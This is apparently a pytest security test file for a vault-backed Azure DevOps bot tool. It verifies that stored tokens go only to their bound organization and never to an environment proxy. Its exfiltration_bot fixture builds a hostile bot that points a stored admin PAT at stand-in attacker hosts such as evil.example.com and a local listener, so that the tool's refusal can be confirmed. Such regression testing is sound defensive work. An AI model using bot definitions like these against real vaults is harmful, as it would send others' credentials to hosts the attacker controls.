"""A vault credential goes only to the organization it was stored for (security review finding
1). A hostile bot builder names an admin's credential and points Connect at a host of theirs:
nothing may arrive there, and `adobot validate` must say so too."""
from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from adobot.credentials.secret import Secret
from adobot.credentials.vault import Vault, _Keys
from tests.conftest import ADOBOT, DEMO_PAT, Listener

CONTOSO = "https://dev.azure.com/contoso"
CANARY = "canary-admin-token-7d41b2"


@pytest.fixture
def listener():
    running = Listener()
    yield running
    running.close()


@pytest.fixture
def vault(tmp_path, monkeypatch):
    monkeypatch.delenv("ADOBOT_VAULT_KEY", raising=False)
    stored = Vault(tmp_path / "vault.json")
    stored.put("ado", "ci-bot", "pat", Secret(CANARY), organizations=[CONTOSO])
    return stored


def adobot(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    full = {k: v for k, v in os.environ.items() if not k.startswith("ADOBOT_")}
    return subprocess.run([str(ADOBOT), *args], capture_output=True, text=True, timeout=60,
                          env={**full, **(env or {})})


def exfiltration_bot(tmp_path: Path, url: str) -> Path:
    path = tmp_path / "steal.yaml"
    path.write_text("name: steal\nsteps:\n  - action: Connect\n    inputs:\n"
                    f"      organization_url: {url}\n      project: Payments\n"
                    "      personal_access_token: {credential: {locker: ado, name: ci-bot, "
                    "attribute: pat}}\n  - action: ListRepos\n", encoding="utf-8")
    return path


def test_a_credential_is_never_sent_to_a_host_the_bot_names(tmp_path, vault, listener):
    bot = exfiltration_bot(tmp_path, f"http://127.0.0.1:{listener.port}/x")
    done = adobot("run", str(bot), "--vault", str(vault.path), "--json")
    error = json.loads(done.stdout)["error"]
    assert done.returncode == 2 and error["code"] == "PERMISSION_DENIED"
    assert "ado/ci-bot/pat" in error["message"] and CONTOSO in error["message"]
    assert listener.connections == 0 and not listener.received
    assert CANARY not in done.stdout + done.stderr


def test_validate_refuses_the_same_bot(tmp_path, vault, listener):
    bot = exfiltration_bot(tmp_path, f"http://127.0.0.1:{listener.port}/x")
    done = adobot("validate", str(bot), "--vault", str(vault.path))
    assert done.returncode == 2
    assert "may be sent only to https://dev.azure.com/contoso" in done.stderr
    good = exfiltration_bot(tmp_path, CONTOSO)
    assert adobot("validate", str(good), "--vault", str(vault.path)).returncode == 0


@pytest.mark.parametrize("url", ["https://evil.example.com/DefaultCollection",
                                 "https://dev.azure.com/contoso-evil",
                                 "https://contoso.visualstudio.com"])
def test_any_other_organization_is_refused_before_anything_is_sent(tmp_path, vault, url):
    done = adobot("run", str(exfiltration_bot(tmp_path, url)), "--vault", str(vault.path),
                  "--json")
    result = json.loads(done.stdout)
    assert result["error"]["code"] == "PERMISSION_DENIED"
    assert result["steps"] == []  # refused before the run: nothing sent at all


def test_the_sandbox_routes_the_bound_organization(tmp_path, vault):
    done = adobot("run", str(exfiltration_bot(tmp_path, CONTOSO)), "--vault", str(vault.path),
                  "--sandbox", "--json")
    assert done.returncode == 1  # the sandbox does not know the canary token: it was sent there
    assert json.loads(done.stdout)["error"]["code"] == "AUTH_FAILED"
    Vault(vault.path).put("ado", "demo", "pat", Secret(DEMO_PAT), organizations=[CONTOSO])
    bot = exfiltration_bot(tmp_path, CONTOSO)
    bot.write_text(bot.read_text().replace("name: ci-bot", "name: demo"))
    ok = adobot("run", str(bot), "--vault", str(vault.path), "--sandbox", "--json")
    assert ok.returncode == 0, ok.stderr


def legacy_vault(path: Path) -> Vault:
    """A vault written before bindings: the value sealed to its place only, no organizations."""
    old = Vault(path)
    keys = _Keys(old._key(create=True))
    doc = {"lockers": {"ado": {"ci-bot": {"pat": {
        "value": keys.seal(DEMO_PAT, "ado/ci-bot/pat"), "set_at": "2026-01-05T09:30:00Z"}}}}}
    old._write(doc, keys)
    return old


def test_a_credential_stored_before_bindings_is_refused_until_an_admin_binds_it(tmp_path):
    old = legacy_vault(tmp_path / "vault.json")
    listed = adobot("vault", "list", "--vault", str(old.path))
    assert "not bound" in listed.stdout
    bot = exfiltration_bot(tmp_path, CONTOSO)
    refused = adobot("run", str(bot), "--vault", str(old.path), "--sandbox", "--json")
    error = json.loads(refused.stdout)["error"]
    assert error["code"] == "PERMISSION_DENIED" and "adobot vault bind ado ci-bot" in error["hint"]
    bound = adobot("vault", "bind", "ado", "ci-bot", "--org", CONTOSO, "--vault", str(old.path))
    assert bound.returncode == 0, bound.stderr
    ok = adobot("run", str(bot), "--vault", str(old.path), "--sandbox", "--json")
    assert ok.returncode == 0, ok.stderr


def test_the_binding_is_sealed_with_the_value(vault):
    """Re-writing the organizations (even with a valid file MAC) breaks the value."""
    keys = _Keys(vault._key(create=False))
    doc = vault._read(keys)
    doc["lockers"]["ado"]["ci-bot"]["pat"]["organizations"] = ["https://dev.azure.com/evil"]
    vault._write(doc, keys)
    with pytest.raises(Exception) as caught:
        vault.get("ado", "ci-bot", "pat", organization="https://dev.azure.com/evil")
    assert getattr(caught.value, "code", "") == "VAULT_ERROR"


def test_put_says_where_a_secret_may_go(tmp_path, sandbox):
    path = str(tmp_path / "v.json")
    nowhere = subprocess.run([str(ADOBOT), "vault", "put", "ado", "x", "pat", "--vault", path],
                             input=DEMO_PAT, capture_output=True, text=True, timeout=60)
    assert nowhere.returncode == 2 and "--org" in nowhere.stderr
    checked = subprocess.run([str(ADOBOT), "vault", "put", "ado", "x", "pat", "--vault", path,
                              "--check", sandbox.org_url()], input=DEMO_PAT,
                             capture_output=True, text=True, timeout=60)
    assert checked.returncode == 0, checked.stderr
    entry = Vault(path).entries()[0]
    assert entry.organizations == (sandbox.org_url().lower(),)


def test_a_proxy_from_the_environment_never_sees_a_plain_http_request(tmp_path, sandbox,
                                                                      listener):
    """Security review finding 5: HTTP_PROXY carried the token in clear to a proxy."""
    bot = tmp_path / "bot.yaml"
    bot.write_text("name: p\nsteps:\n  - action: Connect\n    inputs:\n"
                   f"      organization_url: {sandbox.org_url()}\n      project: Payments\n"
                   "      personal_access_token: {variable: pat}\n  - action: ListRepos\n")
    proxy = f"http://127.0.0.1:{listener.port}"
    env = {"HTTP_PROXY": proxy, "http_proxy": proxy, "ALL_PROXY": proxy, "all_proxy": proxy,
           "NO_PROXY": "", "no_proxy": "", "PAT": CANARY}
    sandbox.state.add_token(CANARY, user="Canary")
    done = adobot("run", str(bot), "--var-env", "pat=PAT", "--debug", env=env)
    assert done.returncode == 0, done.stderr
    assert listener.connections == 0 and not listener.received
    assert "plain http never goes through a proxy" in done.stderr  # said once, under --debug
    assert done.stderr.count("proxy none") == 1
